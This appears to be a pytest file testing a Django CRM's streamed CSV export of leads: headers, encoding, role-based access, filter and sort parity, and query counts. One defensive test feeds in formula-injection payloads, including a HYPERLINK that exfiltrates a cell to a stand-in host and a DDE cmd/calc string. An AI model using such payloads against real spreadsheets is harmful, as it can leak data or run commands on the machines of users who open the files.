"""Lead export: the list's leads, filters and sort as a streamed, spreadsheet-safe CSV file."""

import csv
import io
import re

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from crm.models import Role
from leads.exporting import selectors
from leads.models import LeadStatus
from tests.conftest import count_queries
from tests.factories import LeadFactory, UserFactory

pytestmark = pytest.mark.django_db
EXPORT = reverse("leads:export")
API_EXPORT = "/api/v1/leads/export/"
LEAD_LINK = re.compile(r'href="/leads/(\d+)/"')
BOM = "\ufeff".encode()


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_body(response).decode("utf-8-sig"))))


def _ids(response) -> list[int]:
    return [int(row["ID"]) for row in _rows(response)]


def _list_ids(response) -> list[int]:
    return [int(pk) for pk in LEAD_LINK.findall(response.content.decode())]


# The file


def test_the_file_is_a_streamed_csv_download_with_a_bom_and_a_header_row(as_user, rep):
    lead = LeadFactory(
        owner=rep, team=rep.team, first_name="Ada", last_name="Lovelace", tags=["vip", "webinar"], score=42
    )

    response = as_user(rep).get(EXPORT)

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    body = _body(response)
    assert body.startswith(BOM)
    header = body[len(BOM) :].decode().splitlines()[0]
    assert header == (
        "ID,First name,Last name,Email,Phone,Company,Job title,Website,Industry,Employees,Country,Source,"
        "UTM source,UTM medium,UTM campaign,UTM term,UTM content,Tags,Status,Score,Owner,Team,External id,"
        "External source,Created (UTC)"
    )
    [row] = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert (row["ID"], row["First name"], row["Last name"]) == (str(lead.pk), "Ada", "Lovelace")
    assert (row["Tags"], row["Status"], row["Score"], row["Owner"]) == ("vip, webinar", "New", "42", str(rep))
    assert row["Team"] == "East"


def test_non_latin_names_survive_the_round_trip(as_user, rep):
    names = [("Дмитрий", "Шостакович"), ("王", "小明"), ("مريم", "العتيبي"), ("Zoë", "O'Brien-Łukasiewicz")]
    for first, last in names:
        LeadFactory(owner=rep, first_name=first, last_name=last, company="株式会社テスト 🚀")

    rows = _rows(as_user(rep).get(EXPORT))

    assert sorted((row["First name"], row["Last name"]) for row in rows) == sorted(names)
    assert {row["Company"] for row in rows} == {"株式会社テスト 🚀"}


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        (
            '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"),
        ("\rCarriage", "'\rCarriage"),
        ("  =1+2", "'  =1+2"),
        ("Plain & <b>safe</b>", "Plain & <b>safe</b>"),
        ("Mid=formula", "Mid=formula"),
    ],
)
def test_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(as_user, rep, typed, exported):
    LeadFactory(owner=rep, first_name=typed, company=typed, utm_campaign=typed, tags=[typed], score=-5)

    [row] = _rows(as_user(rep).get(EXPORT))

    assert (row["First name"], row["Company"], row["UTM campaign"], row["Tags"]) == (exported,) * 4
    assert row["Score"] == "-5"  # a number the CRM wrote stays a number


# Who exports what


def test_a_reps_export_has_their_leads_and_the_queue_but_not_a_teammates(as_user, rep, teammate):
    mine = LeadFactory(owner=rep)
    queued = LeadFactory(owner=None)
    LeadFactory(owner=teammate, company="Teammate's secret")

    response = as_user(rep).get(EXPORT)

    assert sorted(_ids(response)) == sorted([mine.pk, queued.pk])


def test_an_outsider_asking_for_another_reps_leads_gets_only_the_header(as_user, rep, outsider):
    LeadFactory.create_batch(3, owner=rep, company="Hidden Corp")

    body = _body(as_user(outsider).get(EXPORT, {"owner": rep.pk}))

    assert body.decode("utf-8-sig").splitlines()[0].startswith("ID,First name")
    assert len(body.decode("utf-8-sig").splitlines()) == 1
    assert b"Hidden Corp" not in body


def test_a_marketer_exports_every_lead(as_user, marketer, rep, outsider):
    leads = [LeadFactory(owner=rep), LeadFactory(owner=outsider), LeadFactory(owner=None)]

    assert sorted(_ids(as_user(marketer).get(EXPORT))) == sorted(lead.pk for lead in leads)


def test_signing_in_is_required(client, rep):
    LeadFactory(owner=rep)

    assert client.get(EXPORT).status_code == 302
    assert client.get(API_EXPORT).status_code in (401, 403)


# The list's filters, search and sort


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"status": "new", "ordering": "-score"},
        {"q": "acme", "ordering": "name"},
        {"tag": "vip", "ordering": "company"},
        {"owner": "null", "ordering": "-status"},
        {"score_min": "10", "score_max": "30", "ordering": "owner"},
        {"status": "bogus", "ordering": "nonsense"},  # dropped as on the list: every lead, newest first
    ],
)
def test_the_export_holds_exactly_the_leads_of_the_list_in_its_order(as_user, admin_user, query):
    ann = UserFactory(first_name="Ann", last_name="Able")
    bob = UserFactory(first_name="Bob", last_name="Baker")
    statuses = [LeadStatus.NEW, LeadStatus.WORKING, LeadStatus.QUALIFIED]
    for index in range(30):
        LeadFactory(
            owner=[ann, bob, None][index % 3],
            status=statuses[index % 3],
            company=f"Acme {index}" if index % 2 else f"Globex {index}",
            tags=["vip"] if index % 4 == 0 else [],
            score=index % 7 * 5,
        )
    client = as_user(admin_user)

    listed = _list_ids(client.get(reverse("leads:index"), query))
    exported = _ids(client.get(EXPORT, query))

    assert exported == listed
    assert exported


def test_batches_follow_the_sort_across_equal_values_without_repeating_or_missing_a_lead(
    as_user, rep, monkeypatch
):
    monkeypatch.setattr(selectors, "BATCH_SIZE", 10)
    LeadFactory.create_batch(45, owner=rep, score=7, company="Same")
    client = as_user(rep)

    for ordering in ("-score", "company", "status", "owner"):
        exported = _ids(client.get(EXPORT, {"ordering": ordering}))
        listed = _list_ids(client.get(reverse("leads:index"), {"ordering": ordering}))
        assert exported == listed
        assert len(set(exported)) == 45


def test_the_list_links_to_the_export_with_its_filters_and_without_its_page_cursor(as_user, rep):
    LeadFactory.create_batch(2, owner=rep, tags=["vip"])

    html = as_user(rep).get(reverse("leads:index"), {"tag": "vip", "ordering": "-score", "after": "xyz"})

    link = re.search(r'<a [^>]*href="([^"]+)"[^>]*>\s*<i[^>]*></i>\s*Export CSV</a>', html.content.decode())
    assert link is not None
    assert link.group(1).replace("&amp;", "&") == f"{EXPORT}?tag=vip&ordering=-score"
    assert "downloads every lead matching these filters" in html.content.decode()


# Streaming: constant queries and memory


@pytest.mark.parametrize("role", [Role.SALES_REP, Role.SALES_MANAGER, Role.MARKETER, Role.ADMIN])
@pytest.mark.parametrize("query", ["", "?status=new&ordering=-score", "?q=acme&ordering=owner"])
def test_the_export_costs_the_same_queries_at_1_and_at_50_leads(
    as_user, assert_same_query_count, team, role, query
):
    user = UserFactory(role=role, team=team)
    LeadFactory(owner=user, company="Acme", team=team)
    client = as_user(user)

    def grow() -> None:
        for index in range(49):
            LeadFactory(owner=user if index % 2 else None, company=f"Acme {index}", team=team)

    assert_same_query_count(lambda: _body(client.get(EXPORT + query)), grow=grow)


def test_each_batch_is_one_query_and_nothing_else_grows_with_the_rows(as_user, rep, monkeypatch):
    monkeypatch.setattr(selectors, "BATCH_SIZE", 10)
    LeadFactory(owner=rep)
    client = as_user(rep)
    _body(client.get(EXPORT))  # warm the per-process caches

    with count_queries() as one:
        assert len(_rows(client.get(EXPORT))) == 1
    LeadFactory.create_batch(49, owner=rep)
    with count_queries() as fifty:
        assert len(_rows(client.get(EXPORT))) == 50

    def batches(queries) -> int:
        return sum('FROM "leads_lead"' in query["sql"] for query in queries.captured_queries)

    assert (batches(one), batches(fifty)) == (1, 5)
    assert len(fifty.captured_queries) - len(one.captured_queries) == 4


# The API


def test_the_api_export_returns_the_same_csv_as_the_page_for_the_same_filters(api_as, as_user, rep):
    LeadFactory.create_batch(3, owner=rep, status=LeadStatus.WORKING, first_name="Дмитрий")
    LeadFactory(owner=rep, status=LeadStatus.NEW)

    from_api = api_as(rep).get(API_EXPORT, {"status": "working"})
    from_page = as_user(rep).get(EXPORT, {"status": "working"})

    assert from_api["Content-Type"] == "text/csv; charset=utf-8"
    body = _body(from_api)
    assert body == _body(from_page)
    assert len(body.decode("utf-8-sig").splitlines()) == 4


def test_the_api_export_sorts_by_the_api_orderings_and_names_a_bad_one(api_as, rep):
    low, high = LeadFactory(owner=rep, score=5), LeadFactory(owner=rep, score=50)
    client = api_as(rep)

    assert _ids(client.get(API_EXPORT, {"ordering": "-score"})) == [high.pk, low.pk]
    refused = client.get(API_EXPORT, {"ordering": "company"})
    assert refused.status_code == 400
    assert "ordering" in refused.json()


def test_the_api_export_refuses_a_bad_filter_naming_the_field(api_as, rep):
    response = api_as(rep).get(API_EXPORT, {"status": "bogus"})

    assert response.status_code == 400
    assert "status" in response.json()


def test_the_api_export_answers_a_client_that_asks_for_text_csv(api_as, rep, outsider):
    mine = LeadFactory(owner=rep)
    LeadFactory(owner=outsider)

    response = api_as(rep).get(API_EXPORT, HTTP_ACCEPT="text/csv")

    assert _ids(response) == [mine.pk]


def test_an_exported_international_phone_number_imports_again():
    from leads.importing.rows import CLEANERS

    assert CLEANERS["phone"]("'+49 30 1234567") == "+49 30 1234567"
